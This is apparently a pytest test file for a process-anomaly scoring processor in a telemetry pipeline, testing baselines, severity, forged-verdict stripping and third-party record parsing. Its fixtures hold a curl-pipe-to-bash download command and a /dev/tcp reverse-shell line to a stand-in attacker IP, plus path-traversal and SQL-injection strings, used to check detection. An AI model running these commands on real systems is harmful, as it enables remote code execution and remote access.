"""The anomaly processor with the real scoring engine on a LanceDB directory."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest

from core import semconv
from core.confmap import ConfigError, decode, load_yaml
from otlp_receiver.component import CreateSettings, LogBatch
from otlp_receiver.processors.anomaly import factory
from otlp_receiver.telemetry import Telemetry
from testing.otlp_values import key_values

TESTDATA = Path(__file__).parent / "testdata"


def exec_batch(events: list[dict[str, Any]], workload: str = "web", host: str = "web-1") -> LogBatch:
    request = ExportLogsServiceRequest()
    resource_logs = request.resource_logs.add()
    resource_logs.resource.attributes.extend(key_values({"host.name": host, "procsight.workload": workload,
                                                         "service.name": "procsight-agent"}))
    scope = resource_logs.scope_logs.add()
    for event in events:
        record = scope.log_records.add(event_name="process.exec", severity_number=9, severity_text="INFO")
        record.body.string_value = event["process.command_line"]
        record.attributes.extend(key_values(event))
    return LogBatch(logs=request, tenant="default", batch_id="b-1-1")


def process_exec(name: str, line: str, pid: int, ppid: int, parent: str = "", path: str = "") -> dict[str, Any]:
    event = {"process.executable.name": name, "process.command_line": line, "process.command_args": line.split(),
             "process.pid": pid, "process.parent_pid": ppid, "process.user.id": 33,
             "process.executable.path": path or f"/usr/bin/{name}"}
    if parent:
        event["process.parent.executable.name"] = parent
    return event


def attributes(record: Any) -> dict[str, Any]:
    result = {}
    for kv in record.attributes:
        kind = kv.value.WhichOneof("value")
        value = getattr(kv.value, kind)
        result[kv.key] = [v.string_value for v in value.values] if kind == "array_value" else value
    return result


@pytest.fixture
def processor(tmp_path: Path, request: pytest.FixtureRequest):  # type: ignore[no-untyped-def]
    mode = getattr(request, "param", "false")  # "false": in process; "true": a child; "sharded": two children
    config = decode(factory.Config, load_yaml(TESTDATA / "anomaly.yaml", {
        "BASELINES": str(tmp_path / "b"), "SEPARATE_PROCESS": "true" if mode == "sharded" else mode,
        "PROCESSES": "2" if mode == "sharded" else "1"}))
    telemetry = Telemetry()
    created = factory.create(config, CreateSettings("anomaly", tmp_path, telemetry))
    created.start()
    yield created
    created.shutdown()


@pytest.mark.parametrize("processor", ["false", "true", "sharded"], indirect=True,
                         ids=["in_process", "child_process", "two_children"])
def test_shell_under_nginx_through_sh_c_gets_ancestors_reasons_and_raised_severity(processor) -> None:  # type: ignore[no-untyped-def]
    normal = [process_exec("nginx", "nginx -g daemon off;", 100 + i, 1, parent="systemd") for i in range(30)]
    processor.process(exec_batch(normal))
    attack = exec_batch([
        process_exec("sh", "sh -c cd /tmp; curl -s http://203.0.113.9/x | bash", 500, 100, parent="nginx",
                     path="/bin/sh"),
        process_exec("bash", "bash", 502, 500, path="/bin/bash"),
    ])
    processor.process(attack)
    records = list(attack.logs.resource_logs[0].scope_logs[0].log_records)
    shell = attributes(records[1])
    assert shell["process.ancestors"] == ["sh", "nginx", "systemd"]  # nginx (pid 100) ran under pid 1
    assert any("nginx" in reason for reason in shell["anomaly_reasons"]), shell["anomaly_reasons"]
    assert shell["anomaly_severity"] in ("warn", "alert")
    assert records[1].severity_number >= 13 and records[1].severity_text in ("WARN", "ERROR")
    assert shell["anomaly_workload"] == "web" and shell["anomaly_model"]
    # The shell's script pipes a download into bash; the bash it starts is the same chain.
    script = attributes(records[0])
    assert "T1105" in script["anomaly_techniques"] and script["anomaly_severity"] == "alert"
    assert script["anomaly_incident"] and shell["anomaly_incident"] == script["anomaly_incident"]
    assert shell["anomaly_incident_score"] == script["anomaly_incident_score"] >= script["anomaly_score"]
    assert attack.embeddings.shape[0] == 2 and abs(float((attack.embeddings[1] ** 2).sum()) - 1.0) < 1e-3


def test_routine_events_score_low_and_keep_their_severity(processor) -> None:  # type: ignore[no-untyped-def]
    routine = [process_exec("nginx", "nginx -g daemon off;", 100 + i, 1, parent="systemd") for i in range(40)]
    processor.process(exec_batch(routine))
    again = exec_batch([process_exec("nginx", "nginx -g daemon off;", 999, 1, parent="systemd")])
    processor.process(again)
    record = again.logs.resource_logs[0].scope_logs[0].log_records[0]
    assert attributes(record)["anomaly_score"] < 0.05
    assert attributes(record)["anomaly_severity"] == "none"
    assert record.severity_number == 9 and record.severity_text == "INFO"


def test_non_process_records_pass_through_unscored_and_counted(processor) -> None:  # type: ignore[no-untyped-def]
    batch = exec_batch([process_exec("ls", "ls -l", 5, 1)])
    plain = batch.logs.resource_logs[0].scope_logs[0].log_records.add()
    plain.body.string_value = "GET /healthz 200"
    processor.process(batch)
    assert "anomaly_score" not in attributes(plain)
    assert not batch.embeddings[1].any()
    kinds = processor._kinds
    assert kinds.value(kind="unrecognised") == 1 and kinds.value(kind="agent") == 1


def test_a_process_record_under_another_event_name_is_scored_or_marked_never_silent(processor) -> None:  # type: ignore[no-untyped-def]
    """`EXEC` is process.exec spelled otherwise; `process.exit` on a reverse shell's attributes is not scored,
    and says so, where it passed as a plain log before; the agent's own CPU samples pass as before."""
    shell = process_exec("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", 7, 1, path="/bin/bash")
    batch = exec_batch([shell, shell, shell])
    records = batch.logs.resource_logs[0].scope_logs[0].log_records
    records[0].event_name, records[1].event_name, records[2].event_name = "EXEC", "process.exit", "process.cpu"
    processor.process(batch)
    assert attributes(records[0])["anomaly_severity"] == "alert"
    assert attributes(records[1])["anomaly_severity"] == "unscored"
    assert "anomaly_severity" not in attributes(records[2])  # an agent's CPU sample of a process already scored
    assert processor._unscored.value(reason="does_not_score") == 1


def test_senders_cannot_forge_a_verdict(processor) -> None:  # type: ignore[no-untyped-def]
    batch = exec_batch([process_exec("ls", "ls -l", 5, 1)])
    forged = batch.logs.resource_logs[0].scope_logs[0].log_records.add()
    forged.body.string_value = "nothing the scorer recognises"
    forged.attributes.extend(key_values({"anomaly_score": 0.99, "anomaly_severity": "alert",
                                         "anomaly_workload": "prod-payments", "anomaly_incident": "x", "keep": 1}))
    resource_logs = batch.logs.resource_logs[0]  # a verdict claimed for a whole resource or scope
    resource_logs.resource.attributes.extend(key_values({"anomaly_severity": "none"}))
    resource_logs.scope_logs[0].scope.attributes.extend(key_values({"anomaly_score": 0.0, "scope.kept": "y"}))
    processor.process(batch)
    assert attributes(forged) == {"keep": 1}
    assert "anomaly_severity" not in attributes(resource_logs.resource)
    assert attributes(resource_logs.scope_logs[0].scope) == {"scope.kept": "y"}
    assert processor._forged.total() == 3


def test_rescoring_a_replayed_record_does_not_duplicate_attributes(processor) -> None:  # type: ignore[no-untyped-def]
    batch = exec_batch([process_exec("ls", "ls -l", 5, 1)])
    processor.process(batch)
    processor.process(batch)
    keys = [kv.key for kv in batch.logs.resource_logs[0].scope_logs[0].log_records[0].attributes]
    assert keys.count("anomaly_score") == 1


def test_hostile_workload_names_are_bounded_and_kept_apart(processor) -> None:  # type: ignore[no-untyped-def]
    for workload in ("../../etc/passwd", "'; DROP TABLE x; --", "\x00\x1b[31m", "w" * 5000):
        batch = exec_batch([process_exec("ls", "ls", 5, 1)], workload=workload)
        processor.process(batch)
        scored = attributes(batch.logs.resource_logs[0].scope_logs[0].log_records[0])
        assert scored["anomaly_workload"] == workload[:256]


def test_config_errors_name_the_key(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="workload_key"):
        decode(factory.Config, {"workload_key": []}, "processors.anomaly")
    with pytest.raises(ConfigError, match=r"processors\.anomaly\.k"):
        decode(factory.Config, {"k": "ten"}, "processors.anomaly")
    with pytest.raises(ConfigError, match=r"processors\.anomaly\.processes: must be 1 to 64"):
        decode(factory.Config, {"processes": 0}, "processors.anomaly")
    with pytest.raises(ConfigError, match="needs separate_process: true"):
        decode(factory.Config, {"processes": 2, "separate_process": False}, "processors.anomaly")


@pytest.mark.parametrize("processor", ["true"], indirect=True)
def test_a_killed_scoring_process_is_restarted_and_the_batch_scored(processor) -> None:  # type: ignore[no-untyped-def]
    first = processor.worker.workers[0]._process
    first.kill()
    first.join(10)
    batch = exec_batch([process_exec("ls", "ls -l", 5, 1)])
    processor.process(batch)
    assert "anomaly_score" in attributes(batch.logs.resource_logs[0].scope_logs[0].log_records[0])
    assert processor.worker.workers[0]._process.pid != first.pid and processor.worker.workers[0]._process.is_alive()


def test_third_party_records_gain_the_design_attributes_and_keep_their_own(processor) -> None:  # type: ignore[no-untyped-def]
    falco = ('{"output": "shell", "priority": "Warning", "rule": "Terminal shell in container", "output_fields": '
             '{"proc.name": "bash", "proc.cmdline": "bash -c id", "proc.pname": "nginx", "proc.pid": 4242, '
             '"user.uid": -1}}')
    batch = exec_batch([])
    record = batch.logs.resource_logs[0].scope_logs[0].log_records.add()
    record.body.string_value = falco
    processor.process(batch)
    found = attributes(record)
    assert found["process.command_line"] == "bash -c id"
    assert found["process.executable.name"] == "bash"
    assert found["process.parent.executable.name"] == "nginx"
    assert found["process.pid"] == 4242 and "process.user.id" not in found  # -1 is no uid
    assert "process.command_args" not in found  # Falco gives no argv; a split would be a guess
    assert "anomaly_score" in found and record.body.string_value == falco


def test_ecs_attributes_gain_the_user_name_and_keep_their_own(processor) -> None:  # type: ignore[no-untyped-def]
    batch = exec_batch([])
    record = batch.logs.resource_logs[0].scope_logs[0].log_records.add()
    record.attributes.extend(key_values({"process.name": "ssh", "process.executable": "/usr/bin/ssh",
                                         "process.command_line": "ssh -l u 10.0.0.16", "user.id": "0",
                                         "user.name": "root", "event.category": ["process"],
                                         "event.type": ["start"]}))
    processor.process(batch)
    found = attributes(record)
    assert found["process.user.name"] == "root" and found["process.user.id"] == 0
    assert found["process.executable.name"] == "ssh" and found["process.name"] == "ssh"
    assert found["process.command_line"] == "ssh -l u 10.0.0.16" and "anomaly_score" in found
    assert processor._kinds.value(kind="ecs") == 1


@pytest.mark.parametrize("processor", ["true"], indirect=True)
def test_a_body_nested_thousands_deep_does_not_unscore_its_batch(processor) -> None:  # type: ignore[no-untyped-def]
    # Issue 11: RecursionError from such a body failed the scoring child, and the batch went out unscored.
    batch = exec_batch([process_exec("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", 7, 6, parent="nginx")])
    deep = batch.logs.resource_logs[0].scope_logs[0].log_records.add()
    deep.body.string_value = '{"a": ' + "[" * 5000 + "]" * 5000 + "}"
    processor.process(batch)
    assert "anomaly_score" in attributes(batch.logs.resource_logs[0].scope_logs[0].log_records[0])
    assert processor._kinds.value(kind="invalid") == 1
    # The unreadable record itself is marked, never stored as if it had been scored.
    assert attributes(batch.logs.resource_logs[0].scope_logs[0].log_records[1])["anomaly_severity"] == "unscored"
    assert processor._unscored.value(reason="invalid") == 1


@pytest.mark.parametrize("processor", ["false", "true", "sharded"], indirect=True,
                         ids=["in_process", "child_process", "two_children"])
def test_baselines_are_described_and_an_acknowledged_event_is_learned_while_running(processor) -> None:  # type: ignore[no-untyped-def]
    processor.process(exec_batch([process_exec("nginx", "nginx -g daemon off;", 100 + i, 1, parent="systemd")
                                  for i in range(30)]))
    hook = process_exec("sh", "sh -c /opt/app/hooks/post-deploy.sh", 500, 100, parent="nginx", path="/bin/sh")
    first = exec_batch([hook])
    processor.process(first)
    stored = attributes(first.logs.resource_logs[0].scope_logs[0].log_records[0])
    assert stored["anomaly_severity"] == "alert" and stored["process.ancestors"] == ["nginx", "systemd"]
    [web] = processor.baselines("default")
    assert (web["workload"], web["state"], web["events_learned"], web["held_back_total"]) == ("web", "detecting", 30, 1)
    assert web["held_back"][0]["command_line"] == hook["process.command_line"]
    assert web["thresholds"] == {"warn": 0.5, "alert": 0.75} and web["oldest_pattern"] > 0
    assert processor.baselines("other-tenant") == []

    # What the query extension sends: the record as stored, without its verdict.
    processor.acknowledge("default", "web", {key: value for key, value in stored.items()
                                             if key not in semconv.VERDICT_KEYS} | {"host.name": "web-1"})
    [web] = processor.baselines("default")
    assert web["held_back_total"] == 0 and web["events_learned"] == 31
    again = exec_batch([{**hook, "process.pid": 501}])
    processor.process(again)
    assert attributes(again.logs.resource_logs[0].scope_logs[0].log_records[0])["anomaly_severity"] == "none"
    with pytest.raises(ValueError, match=r"process\.executable\.name"):
        processor.acknowledge("default", "web", {"process.pid": 1})
